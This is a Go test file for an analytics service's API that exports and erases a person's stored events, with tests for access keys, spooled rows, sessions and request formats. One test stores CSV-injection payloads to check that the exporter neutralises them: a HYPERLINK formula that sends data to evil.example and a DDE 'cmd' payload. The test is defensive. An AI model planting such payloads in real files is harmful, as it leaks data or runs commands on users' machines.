package subject_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/valyala/fasthttp"

	"github.com/glimpse-analytics/glimpse/collector/sink"
	"github.com/glimpse-analytics/glimpse/internal/apptest"
	"github.com/glimpse-analytics/glimpse/internal/chtest"
	"github.com/glimpse-analytics/glimpse/internal/config"
	"github.com/glimpse-analytics/glimpse/internal/identity"
	"github.com/glimpse-analytics/glimpse/internal/model"
	"github.com/glimpse-analytics/glimpse/internal/storage/subject"
)

const (
	subjectKey = "0123456789abcdef0123456789abcdef"
	apiKey     = "test-key-for-subject-requests"
	statsKey   = "test-key-that-only-reads-stats"
)

func sites(t *testing.T) *config.File {
	t.Helper()
	f, err := config.Parse("s.yaml", []byte(fmt.Sprintf(`sites:
  - domain: shop.example
    privacy: {mode: consented, subject_key: %s}
  - domain: other.example
api_keys:
  - {name: dpo, sha256: %s, sites: [shop.example], scopes: [subjects]}
  - {name: grafana, sha256: %s, sites: [shop.example, other.example]}
`, subjectKey, apptest.KeyHash(apiKey), apptest.KeyHash(statsKey))))
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func enqueue(t *testing.T, w *sink.Writer, site, subject string, n int) {
	t.Helper()
	for i := range n {
		e := w.NewEvent()
		e.SiteID, e.EventID, e.TS, e.Type = site, uuid.New(), time.Now().UTC().Truncate(time.Second), model.TypePageview
		e.SubjectID = append(e.SubjectID, subject...)
		e.Pathname = fmt.Appendf(e.Pathname, "/%s/%d", site, i)
		e.IPPrefix = append(e.IPPrefix, "203.0.113.0/24"...)
		e.AddProp([]byte("plan"), []byte("pro"))
		if err := w.Enqueue(e); err != nil {
			t.Fatal(err)
		}
	}
}

func post(t *testing.T, base, path, key string, form url.Values) (int, string) {
	t.Helper()
	req, _ := http.NewRequest("POST", base+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestExportEraseRoundTrip stores some of a subject's events, leaves more
// in the spool, exports them all through the API (JSON Lines and CSV),
// erases them, and checks that none is left anywhere and none arrives
// later from the spool, while other subjects' rows stay.
func TestExportEraseRoundTrip(t *testing.T) {
	db := chtest.Migrated(t)
	cfg := sites(t)
	key := identity.NewSubjectKey([]byte(subjectKey))
	alice, bob := key.String("alice"), key.String("bob")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	// Stored: 5 of alice, 3 of bob, 2 of another site with alice's hash.
	w1 := sink.New(sink.Options{Conn: db.Conn, Interval: time.Hour})
	enqueue(t, w1, "shop.example", alice, 5)
	enqueue(t, w1, "shop.example", bob, 3)
	enqueue(t, w1, "other.example", alice, 2)
	if _, err := w1.Close(ctx); err != nil {
		t.Fatal(err)
	}
	// Spooled, not yet inserted: 4 more of alice and 1 of bob.
	w2, err := sink.Open(sink.Options{Conn: db.Conn, SpoolDir: t.TempDir(), Interval: time.Hour, SpoolSyncInterval: 10 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	enqueue(t, w2, "shop.example", alice, 4)
	enqueue(t, w2, "shop.example", bob, 1)
	svc := subject.New(subject.Options{Conn: db.Conn, Sites: cfg, Pending: w2})
	deadline := time.Now().Add(10 * time.Second)
	for {
		var b bytes.Buffer
		n, err := svc.Export(ctx, "shop.example", alice, subject.JSONLines, &b)
		if err != nil {
			t.Fatal(err)
		}
		if n == 9 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("export has %d rows, want 5 stored + 4 spooled", n)
		}
		time.Sleep(20 * time.Millisecond)
	}

	mux := svc.Routes(nil)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	hs := &fasthttp.Server{Handler: func(c *fasthttp.RequestCtx) {
		if h, ok := mux[string(c.Path())]; ok {
			h(c)
			return
		}
		c.SetStatusCode(404)
	}}
	go hs.Serve(ln)
	defer hs.Shutdown()
	base := "http://" + ln.Addr().String()
	form := url.Values{"site_id": {"shop.example"}, "uid": {"alice"}}

	for _, tt := range []struct {
		name, key string
		form      url.Values
		status    int
	}{
		{"no key", "", form, 401},
		{"wrong key", "nope", form, 401},
		{"site not granted", apiKey, url.Values{"site_id": {"other.example"}, "uid": {"alice"}}, 403},
		{"no uid", apiKey, url.Values{"site_id": {"shop.example"}}, 400},
		// A key without the subjects scope (a dashboard's) can neither
		// read one person's rows nor erase them.
		{"stats key", statsKey, form, 403},
	} {
		for _, path := range []string{subject.PathExport, subject.PathErase} {
			if code, body := post(t, base, path, tt.key, tt.form); code != tt.status {
				t.Errorf("%s %s: %d %s, want %d", path, tt.name, code, body, tt.status)
			}
		}
	}

	code, body := post(t, base, subject.PathExport, apiKey, form)
	lines := strings.Split(strings.TrimSpace(body), "\n")
	if code != 200 || len(lines) != 9 {
		t.Fatalf("jsonl export: %d, %d lines:\n%s", code, len(lines), body)
	}
	if !strings.Contains(lines[0], `"subject_id":"`+alice+`"`) || !strings.Contains(lines[0], `"prop_keys":["plan"]`) || strings.Contains(body, `"alice"`) {
		t.Fatalf("jsonl row: %s", lines[0])
	}
	csvForm := url.Values{"site_id": {"shop.example"}, "uid": {"alice"}, "format": {"csv"}}
	code, body = post(t, base, subject.PathExport, apiKey, csvForm)
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil || len(recs) != 10 || recs[0][0] != "table" || recs[0][1] != "site_id" || recs[0][2] != "event_id" {
		t.Fatalf("csv export: %d %v, %d records:\n%s", code, err, len(recs), body)
	}

	code, body = post(t, base, subject.PathErase, apiKey, form)
	if code != 200 || !strings.Contains(body, `"deleted":5`) {
		t.Fatalf("erase: %d %s", code, body)
	}
	count := func(q string, args ...any) uint64 {
		var n uint64
		if err := db.Conn.QueryRow(ctx, q, args...).Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	if code, body = post(t, base, subject.PathExport, apiKey, form); code != 200 || body != "" {
		t.Fatalf("export after erase: %d %q", code, body)
	}
	// The spooled rows of alice never arrive; bob's and the other site's do.
	if _, err := w2.Close(ctx); err != nil {
		t.Fatal(err)
	}
	if n := count("SELECT count() FROM events WHERE site_id = 'shop.example' AND subject_id = ?", alice); n != 0 {
		t.Fatalf("%d rows of the erased subject after the spool drained", n)
	}
	if n := count("SELECT count() FROM events WHERE site_id = 'shop.example' AND subject_id = ?", bob); n != 4 {
		t.Fatalf("bob has %d rows, want 4", n)
	}
	if n := count("SELECT count() FROM events WHERE site_id = 'other.example'"); n != 2 {
		t.Fatalf("other.example has %d rows, want 2", n)
	}
}

// TestExportCSVNeutralisesFormulas: a subject's rows carry text the
// visitor's browser sent (paths, referrers, campaign names, property keys
// and values), and the CSV export is opened in spreadsheets: no text
// cell may start as a formula (= + - @ tab CR), the header included.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	db := chtest.Migrated(t)
	cfg := sites(t)
	alice := identity.NewSubjectKey([]byte(subjectKey)).String("alice")
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	const (
		path = `=HYPERLINK("https://evil.example/?d="&A1,"Open")`
		name = `=cmd|' /C calc'!A0`
	)
	w := sink.New(sink.Options{Conn: db.Conn, Interval: time.Hour})
	e := w.NewEvent()
	e.SiteID, e.EventID, e.TS, e.Type = "shop.example", uuid.New(), time.Now().UTC().Truncate(time.Second), model.TypeCustom
	e.SubjectID = append(e.SubjectID, alice...)
	e.Name = append(e.Name, name...)
	e.Pathname = append(e.Pathname, path...)
	e.Referrer = append(e.Referrer, "+1+1"...)
	e.UTMSource = append(e.UTMSource, "-2+3"...)
	e.UTMCampaign = append(e.UTMCampaign, "@SUM(1)"...)
	e.UTMTerm = append(e.UTMTerm, "\tx"...)
	e.UTMContent = append(e.UTMContent, "\rx"...)
	e.AddProp([]byte("=key"), []byte("+value"))
	if err := w.Enqueue(e); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Close(ctx); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if n, err := subject.New(subject.Options{Conn: db.Conn, Sites: cfg}).Export(ctx, "shop.example", alice, subject.CSV, &b); n != 1 || err != nil {
		t.Fatalf("export: %d rows, %v", n, err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %v, %d records", err, len(recs))
	}
	cols := map[string]string{}
	for i, c := range recs[0] {
		cols[c] = recs[1][i]
	}
	for col, want := range map[string]string{
		"pathname": "'" + path, "name": "'" + name, "referrer": "'+1+1", "utm_source": "'-2+3",
		"utm_campaign": "'@SUM(1)", "utm_term": "'\tx", "utm_content": "'\rx", "prop_keys": `["=key"]`,
	} {
		if cols[col] != want {
			t.Errorf("%s: %q, want %q", col, cols[col], want)
		}
	}
	for i, rec := range recs {
		for j, c := range rec {
			if _, err := strconv.ParseFloat(c, 64); err == nil {
				continue // a number Glimpse formatted, sign and all
			}
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("record %d, %s: %q starts as a formula", i, recs[0][j], c)
			}
		}
	}
}

// TestExportIncludesSessions exports a person's rows: their events, the
// other events of their sessions (a page seen before signing in) and the
// current state of their sessions, in both formats, each row naming its
// table; another visitor's rows stay out.
func TestExportIncludesSessions(t *testing.T) {
	db := chtest.Migrated(t)
	h := newHarness(t, db)
	now := time.Now().UTC().Add(-time.Minute)
	h.open(false)
	s := h.visit(1001, "", now, "/before", "", "spring")
	h.visit(1001, "alice", now.Add(time.Second), "/a", "", "spring")
	h.visit(1001, "alice", now.Add(2*time.Second), "/b", "", "spring")
	h.visit(2002, "bob", now, "/", "", "")
	h.waitFor("events stored", func() bool { return h.count("SELECT count() FROM events") == 4 })
	h.waitFor("sessions written", func() bool { return h.count("SELECT uniqExact(session_id) FROM sessions") == 2 })
	// The session's state now: three page views from /before to /b.
	h.waitFor("the last view in the session", func() bool {
		return h.count("SELECT count() FROM sessions WHERE session_id = ? AND sign = 1 AND pageviews = 3", s) > 0
	})

	code, body := h.post(subject.PathExport, url.Values{"site_id": {site}, "uid": {"alice"}})
	if code != 200 {
		t.Fatalf("export: %d %s", code, body)
	}
	var events, sessions []string
	for _, l := range strings.Split(strings.TrimSpace(body), "\n") {
		switch {
		case strings.HasPrefix(l, `{"table":"events",`):
			events = append(events, l)
		case strings.HasPrefix(l, `{"table":"sessions",`):
			sessions = append(sessions, l)
		default:
			t.Errorf("a line without its table: %s", l)
		}
	}
	if len(events) != 3 || len(sessions) != 1 {
		t.Fatalf("export has %d events and %d sessions, want 3 and 1:\n%s", len(events), len(sessions), body)
	}
	if !strings.Contains(events[0], `"pathname":"/before"`) || strings.Contains(body, `"visitor_id":2002`) {
		t.Errorf("events exported: %v", events)
	}
	for _, want := range []string{fmt.Sprintf(`"session_id":%d`, s), `"entry_page":"/before"`, `"exit_page":"/b"`, `"pageviews":3`, `"utm_campaign":"spring"`} {
		if !strings.Contains(sessions[0], want) {
			t.Errorf("session row lacks %s: %s", want, sessions[0])
		}
	}

	code, body = h.post(subject.PathExport, url.Values{"site_id": {site}, "uid": {"alice"}, "format": {"csv"}})
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil || len(recs) != 5 || recs[0][0] != "table" {
		t.Fatalf("csv export: %d %v, %d records:\n%s", code, err, len(recs), body)
	}
	col := map[string]int{}
	for i, c := range recs[0] {
		col[c] = i
	}
	tables := map[string]int{}
	for _, r := range recs[1:] {
		tables[r[0]]++
		if r[0] == "sessions" && (r[col["exit_page"]] != "/b" || r[col["session_id"]] != fmt.Sprint(s)) {
			t.Errorf("csv session row: %v", r)
		}
	}
	if tables["events"] != 3 || tables["sessions"] != 1 {
		t.Errorf("csv rows by table: %v", tables)
	}
	h.close()
}

func postBody(t *testing.T, base, path, key, contentType, body string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest("POST", base+path, strings.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	req.Header.Set("Authorization", "Bearer "+key)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestRequestEncodings sends the same requests as a form and as JSON: both
// export and erase the subject's rows; a request without a site, with
// malformed JSON or with a field the API does not know answers 400 saying
// what to fix, never a 403 naming a blank site.
func TestRequestEncodings(t *testing.T) {
	db := chtest.Migrated(t)
	h := newHarness(t, db)
	now := time.Now().UTC().Add(-time.Minute)
	h.open(false)
	h.visit(1001, "alice", now, "/a", "", "")
	h.visit(1001, "alice", now.Add(time.Second), "/b", "", "")
	h.visit(2002, "bob", now, "/c", "", "")
	h.waitFor("events stored", func() bool { return h.count("SELECT count() FROM events") == 3 })
	h.waitFor("sessions written", func() bool { return h.count("SELECT uniqExact(session_id) FROM sessions") == 2 })

	const (
		form = "application/x-www-form-urlencoded"
		js   = "application/json"
	)
	for _, tt := range []struct {
		name, path, contentType, body string
		status                        int
		want                          string // in the response body
	}{
		{"form", subject.PathExport, form, "site_id=shop.example&uid=alice", 200, `"pathname":"/b"`},
		{"json", subject.PathExport, js, `{"site_id":"shop.example","uid":"alice"}`, 200, `"pathname":"/b"`},
		{"json with charset", subject.PathExport, js + "; charset=utf-8", `{"site_id": "shop.example", "uid": "alice"}`, 200, `"pathname":"/a"`},
		{"json csv", subject.PathExport, js, `{"site_id":"shop.example","uid":"alice","format":"csv"}`, 200, "table,site_id,event_id"},
		{"json bad format", subject.PathExport, js, `{"site_id":"shop.example","uid":"alice","format":"xml"}`, 400, "format: want jsonl or csv"},
		{"json no site", subject.PathExport, js, `{"uid":"alice"}`, 400, "site_id is required"},
		{"form no site", subject.PathErase, form, "uid=alice", 400, "site_id is required"},
		{"empty body", subject.PathErase, "", "", 400, "site_id is required"},
		{"json no uid", subject.PathErase, js, `{"site_id":"shop.example"}`, 400, "uid"},
		{"malformed json", subject.PathErase, js, `{"site_id":"shop.example",`, 400, "cannot parse the JSON body"},
		{"json not an object", subject.PathErase, js, `["shop.example","alice"]`, 400, "cannot parse the JSON body"},
		{"json trailing data", subject.PathErase, js, `{"site_id":"shop.example","uid":"alice"} {}`, 400, "cannot parse the JSON body"},
		{"json unknown field", subject.PathErase, js, `{"site":"shop.example","uid":"alice"}`, 400, `unknown field \"site\"`},
		{"json number uid", subject.PathErase, js, `{"site_id":"shop.example","uid":42}`, 400, "cannot parse the JSON body"},
		{"json sent as a form", subject.PathErase, form, `{"site_id":"shop.example","uid":"alice"}`, 400, "Content-Type: application/json"},
		{"json site not granted", subject.PathErase, js, `{"site_id":"other.example","uid":"alice"}`, 403, "may not access site other.example"},
		{"json erase", subject.PathErase, js, `{"site_id":"shop.example","uid":"alice"}`, 200, `"remaining":0`},
		{"form export after erase", subject.PathExport, form, "site_id=shop.example&uid=alice", 200, ""},
	} {
		code, body := postBody(t, h.base, tt.path, apiKey, tt.contentType, tt.body)
		if code != tt.status || !strings.Contains(body, tt.want) || (tt.want == "" && body != "") {
			t.Errorf("%s: %d %s, want %d with %q", tt.name, code, body, tt.status, tt.want)
		}
		if strings.Contains(body, `access site "`) {
			t.Errorf("%s: a blank site in %s", tt.name, body)
		}
	}
	if n := h.count("SELECT count() FROM events WHERE visitor_id = 2002"); n != 1 {
		t.Fatalf("bob has %d events, want 1", n)
	}
}
